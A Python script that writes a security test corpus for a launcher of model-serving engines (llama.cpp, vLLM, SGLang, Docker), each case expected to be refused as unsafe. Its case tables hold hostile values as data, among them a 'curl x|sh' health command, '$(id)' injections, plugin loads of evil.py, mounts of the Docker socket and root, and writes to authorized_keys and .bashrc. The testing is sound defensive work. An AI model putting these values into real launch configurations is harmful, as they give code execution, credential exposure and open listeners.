"""Write the table-built cases of the unsafe corpus (tests/security/corpus/table-*.json, issue-*.json).

Run from the repository root after regenerating the option tables:

    python -m tests.security.make_corpus

Two sets: ``table-KIND-OPTION.json``, one per option of an engine's table that
names a path, loads code, a plugin, a config, a template or a cache, opens a
socket or changes where output goes, each given the value an attacker would
give it (a file of the recipe's own fetched weights, a file of the user's
home, ``/proc/self/environ``, a listener on every interface); and
``issue-*.json``, the option, env and docker cases of issue 33. Each expects
E_UNSAFE and the option's or variable's name in the refusal.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

from rigbook.launch.rules.table import ValueKind, Verdict, load_table

CORPUS = Path(__file__).parent / "corpus"
WEIGHTS = "@MODELS@/org/model/0123456789abcdef0123456789abcdef01234567"
# Option names that reach a path, code, a socket or where output goes: each such refused option
# (and every path- or JSON-valued one) is a case.
HOLES = re.compile(
    r"path|file|dir\b|dir-|folder|template|plugin|config|log-|module|url|host|-ip\b|port|addr|"
    r"socket|uds|download|cache-dir|trust|middleware|lora|mmproj|tokenizer|dump|save|slot|media|"
    r"tool|mcp|props|endpoint|events|transfer|custom|crash|output|root|hf-|repo|import|cls|hook|rpc"
)
NATIVE = {
    "llama_server": {"kind": "llama_server", "model_path": "${MODELS_DIR}/m.gguf"},
    "llama_cpp": {"kind": "llama_cpp", "model_path": "${MODELS_DIR}/m.gguf"},
    "vllm": {"kind": "vllm", "model": "org/model", "env": {}},
    "sglang": {"kind": "sglang", "model": "org/model", "env": {}},
}
DOCKER = {"kind": "docker", "image": "example/engine:1", "container_port": 8000, "env": {}}
ATTACKS = [
    f"{WEIGHTS}/evil.py",
    "/proc/self/environ",
    ".ssh/authorized_keys",
    ".venv/lib/python3.11/site-packages/x.pth",
    "/home/user/.bashrc",
]


def recipe(slug: str, launch: dict, says: str, code: str = "E_UNSAFE") -> dict:
    return {
        "slug": slug,
        "title": f"unsafe: {slug}",
        "config": {"launch": []},
        "hardware": [],
        "artifacts": [
            {
                "kind": "model_weights",
                "pointer_type": "hf_model",
                "pointer": "https://huggingface.co/org/model",
                "pin": "0123456789abcdef0123456789abcdef01234567",
            }
        ],
        "rigbook": {"launch": launch},
        "_expect": {"code": code, "says": says},
    }


def _value(rule, n: int) -> list[str]:
    """What an attacker gives the option: a file of the recipe's weights, a home file, a
    listener on every interface, a config that names both."""
    words = " ".join(rule.names).lower()
    if rule.value == ValueKind.flag:
        return []
    if rule.value == ValueKind.json:
        return [
            json.dumps(
                {
                    "kv_ip": "0.0.0.0",
                    "endpoint": "tcp://*:5557",
                    "module_path": f"{WEIGHTS}/evil.py",
                }
            )
        ]
    if re.search(r"host|addr|ip\b|endpoint|url", words):
        return ["tcp://*:5557" if "endpoint" in words else "0.0.0.0"]
    if rule.value == ValueKind.int or re.search(r"port", words):
        return ["0"]
    if rule.value == ValueKind.choice and rule.choices:
        return [rule.choices[0]]
    values = [ATTACKS[n % len(ATTACKS)]]
    return values * (2 if rule.nargs == "+" else 1)


def table_cases() -> list[dict]:
    cases = []
    for kind, base in NATIVE.items():
        table = load_table(kind)
        assert table is not None, kind
        for n, rule in enumerate(table.options):
            if rule.verdict not in (Verdict.refuse, Verdict.owned) or rule.allow:
                continue
            if rule.value not in (ValueKind.path, ValueKind.json) and not any(
                HOLES.search(n) for n in rule.names
            ):
                continue
            name = rule.names[-1]
            slug = f"table-{kind.replace('_', '-')}-{name.strip('-').replace('_', '-').lower()}"
            launch = {**base, "args": [name, *_value(rule, n)]}
            cases.append(recipe(slug, launch, name))
    return cases


def _native(kind: str, args: list[str], env: dict | None = None) -> dict:
    launch = {**NATIVE[kind], "args": args}
    if env is not None:
        launch["env"] = env
    return launch


def _docker(args: list[str], env: dict | None = None) -> dict:
    return {**DOCKER, "args": args, "env": env or {}}


def issue_cases() -> list[dict]:
    """Issue 33's option, env and docker cases."""
    docker = {
        "mount-src-last-root": (
            ["--mount", "type=bind,source=@MODELS@,src=/,target=/host"],
            "--mount",
        ),
        "mount-src-docker-sock": (
            ["--mount", "type=bind,src=/var/run/docker.sock,target=/var/run/docker.sock"],
            "--mount",
        ),
        "mount-volume-opt-device": (
            [
                "--mount",
                "type=volume,dst=/h,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/",
            ],
            "--mount",
        ),
        "bind-home-bin": (["-v", "~/bin:/hostbin"], "home directory"),
        "bind-home-dot-local": (["-v", "~/.local/bin:/b"], "home directory"),
        "bind-tmux-socket": (["-v", "/tmp/tmux-1000:/t"], "sockets"),
        "bind-x11-socket": (["-v", "/tmp/.X11-unix:/tmp/.X11-unix"], "sockets"),
        "bind-opt-conda": (["-v", "/opt/conda:/c"], "bind-mount"),
        "bind-srv-models-rw": (["--volume=/srv/models:/m"], "bind-mount"),
        "cidfile-home": (["--cidfile", "/home/user/.bashrc"], "--cidfile"),
        "runtime-nvidia": (["--runtime", "nvidia"], "--runtime"),
        "annotation-cdi": (["--annotation", "cdi.k8s.io/gpus=nvidia.com/gpu=all"], "--annotation"),
        "log-driver-syslog": (
            ["--log-driver", "syslog", "--log-opt", "syslog-address=tcp://x:514"],
            "--log-driver",
        ),
        "entrypoint-sh": (["--entrypoint", "sh"], "--entrypoint"),
        "volume-driver": (["--volume-driver", "local"], "--volume-driver"),
        "sysctl": (["--sysctl", "net.ipv4.ip_forward=1"], "--sysctl"),
        "add-host": (["--add-host", "huggingface.co:6.6.6.6"], "--add-host"),
        "dns": (["--dns", "6.6.6.6"], "--dns"),
        "user-root": (["--user", "0:0"], "--user"),
        "workdir": (["-w", "/"], "--workdir"),
        "tmpfs-exec": (["--tmpfs", "/x:exec"], "--tmpfs"),
        "group-add-docker": (["--group-add", "docker"], "--group-add"),
        "storage-opt": (["--storage-opt", "size=1T"], "--storage-opt"),
        "restart-always": (["--restart", "always"], "--restart"),
        "oom-kill-disable": (["--oom-kill-disable"], "--oom-kill-disable"),
        "link": (["--link", "db:db"], "--link"),
        "ip": (["--ip", "172.17.0.9"], "--ip"),
        "mac-address": (["--mac-address", "02:42:ac:11:00:02"], "--mac-address"),
        "health-cmd": (["--health-cmd", "curl x|sh"], "--health-cmd"),
        "expose": (["--expose", "22"], "--expose"),
        "network-alias": (["--net-alias", "x"], "--network-alias"),
        "platform": (["--platform", "linux/arm64"], "--platform"),
        "label-file-aws": (["--label-file", "~/.aws/credentials"], "env-file"),
        "unknown-option": (["--brand-new-docker-flag"], "--allow-option --brand-new-docker-flag"),
        "ipc-bad-value": (["--ipc", "/dev/shm"], "--ipc"),
        "shm-size-text": (["--shm-size", "$(id)"], "--shm-size"),
        "ulimit-slash": (["--ulimit", "core=/x"], "--ulimit"),
        "grouped-cidfile": (["-it", "--cidfile=/tmp/c"], "--cidfile"),
    }
    cases = [
        recipe(f"issue-docker-{slug}", _docker(args), says) for slug, (args, says) in docker.items()
    ]
    env = {
        "CUDA_INJECTION64_PATH": f"{WEIGHTS}/libinject.so",
        "NCCL_CONF_FILE": f"{WEIGHTS}/nccl.conf",
        "OMP_TOOL_LIBRARIES": f"{WEIGHTS}/libtool.so",
        "TRITON_CACHE_MANAGER": "evil:Manager",
        "TRITON_CACHE_DIR": f"{WEIGHTS}/triton",
        "VLLM_LOGGING_CONFIG_PATH": f"{WEIGHTS}/logging.json",
        "VLLM_HOST_IP": "0.0.0.0",
        "VLLM_PORT": "5557",
        "VLLM_PLUGINS": "evil",
        "VLLM_CONFIG_ROOT": f"{WEIGHTS}",
        "VLLM_CACHE_ROOT": "/home/user",
        "VLLM_RPC_BASE_PATH": "/tmp",
        "HF_HOME": "/etc",
        "HF_MODULES_CACHE": f"{WEIGHTS}",
        "TORCHINDUCTOR_CACHE_DIR": f"{WEIGHTS}",
        "TORCH_EXTENSIONS_DIR": f"{WEIGHTS}",
        "TRITON_HOME": f"{WEIGHTS}",
        "CUDA_CACHE_PATH": f"{WEIGHTS}",
        "NCCL_TOPO_FILE": f"{WEIGHTS}/topo.xml",
        "NCCL_GRAPH_FILE": f"{WEIGHTS}/graph.xml",
        "NCCL_DEBUG_FILE": "/home/user/.bashrc",
        "NCCL_SOCKET_IFNAME": "eth0",
        "NCCL_NET": "evil",
        "NCCL_TUNER_PLUGIN": f"{WEIGHTS}/libtuner.so",
        "XDG_CACHE_HOME": f"{WEIGHTS}",
        "TMPDIR": "/home/user",
        "TZ": ":/proc/self/environ",
        "SSL_CERT_FILE": f"{WEIGHTS}/ca.pem",
        "OMP_TOOL": "enabled",
    }
    cases += [
        recipe(
            f"issue-env-vllm-{name.lower().replace('_', '-')}",
            _native("vllm", [], {name: value}),
            name,
        )
        for name, value in env.items()
    ]
    sglang_env = {"SGLANG_TORCH_PROFILER_DIR": "/home/user", "SGLANG_HOST_IP": "0.0.0.0"}
    cases += [
        recipe(
            f"issue-env-sglang-{name.lower().replace('_', '-')}",
            _native("sglang", [], {name: value}),
            name,
        )
        for name, value in sglang_env.items()
    ]
    typed = {
        "VLLM_CPU_KVCACHE_SPACE": "$(id)",
        "OMP_NUM_THREADS": "9" * 40,
        "NCCL_DEBUG": "/tmp/x",
    }
    cases += [
        recipe(
            f"issue-env-typed-{name.lower().replace('_', '-')}",
            _native("vllm", [], {name: value}),
            name,
        )
        for name, value in typed.items()
    ]
    native = {
        "llama-server-log-file-authorized-keys": (
            "llama_server",
            ["--log-file", ".ssh/authorized_keys", "--chat-template", "ssh-ed25519 AAAA x"],
            "--log-file",
        ),
        "llama-server-log-file-pth": (
            "llama_server",
            ["--log-file", ".venv/lib/python3.11/site-packages/x.pth"],
            "--log-file",
        ),
        "llama-server-chat-template-file-environ": (
            "llama_server",
            ["--chat-template-file", "/proc/self/environ"],
            "--chat-template-file",
        ),
        "llama-server-model-draft-etc": (
            "llama_server",
            ["--model-draft", "/etc/hostname"],
            "outside the models folder",
        ),
        "llama-server-ctx-huge": ("llama_server", ["--threads", "9" * 5000], "not a number"),
        "llama-server-stray-positional": (
            "llama_server",
            ["--threads", "4", "/etc/passwd"],
            "positional",
        ),
        "vllm-tool-parser-plugin-weights": (
            "vllm",
            ["--tool-parser-plugin", f"{WEIGHTS}/evil.py"],
            "--tool-parser-plugin",
        ),
        "vllm-reasoning-parser-plugin-weights": (
            "vllm",
            ["--reasoning-parser-plugin", f"{WEIGHTS}/evil.py"],
            "--reasoning-parser-plugin",
        ),
        "vllm-log-config-file-weights": (
            "vllm",
            ["--log-config-file", f"{WEIGHTS}/log.json"],
            "--log-config-file",
        ),
        "vllm-download-dir-etc": ("vllm", ["--download-dir", "/etc/cron.d"], "--download-dir"),
        "vllm-kv-events-every-interface": (
            "vllm",
            ["--kv-events-config", '{"enable_kv_cache_events": true, "endpoint": "tcp://*:5557"}'],
            "--kv-events-config",
        ),
        "vllm-kv-transfer-every-interface": (
            "vllm",
            ["--kv-transfer-config", '{"kv_connector": "x", "kv_ip": "0.0.0.0"}'],
            "--kv-transfer-config",
        ),
        "vllm-chat-template-environ": (
            "vllm",
            ["--chat-template", "/proc/self/environ"],
            "--chat-template",
        ),
        "vllm-tool-parser-plugin-abbrev": (
            "vllm",
            ["--tool-parser-plug", f"{WEIGHTS}/evil.py"],
            "--tool-parser-plugin",
        ),
        "vllm-log-config-underscore-equals": (
            "vllm",
            [f"--log_config_file={WEIGHTS}/log.json"],
            "--log-config-file",
        ),
        "vllm-max-model-len-huge": ("vllm", ["--max-model-len", "9" * 5000], "whole number"),
        "sglang-crash-dump-folder": (
            "sglang",
            ["--crash-dump-folder", "/home/user/.config/autostart"],
            "--crash-dump-folder",
        ),
        "sglang-custom-logit-processor": (
            "sglang",
            ["--enable-custom-logit-processor"],
            "--enable-custom-logit-processor",
        ),
        "sglang-chat-template-environ": (
            "sglang",
            ["--chat-template", "/proc/self/environ"],
            "--chat-template",
        ),
        "llama-cpp-chat-format-path": ("llama_cpp", ["--chat_format", "../../x"], "plain name"),
    }
    cases += [
        recipe(f"issue-{slug}", _native(kind, args), says)
        for slug, (kind, args, says) in native.items()
    ]
    return cases


def main() -> None:
    for old in [*CORPUS.glob("table-*.json"), *CORPUS.glob("issue-*.json")]:
        old.unlink()
    cases = table_cases() + issue_cases()
    for case in cases:
        (CORPUS / f"{case['slug']}.json").write_text(json.dumps(case, indent=2) + "\n")
    print(f"wrote {len(cases)} cases")


if __name__ == "__main__":
    main()
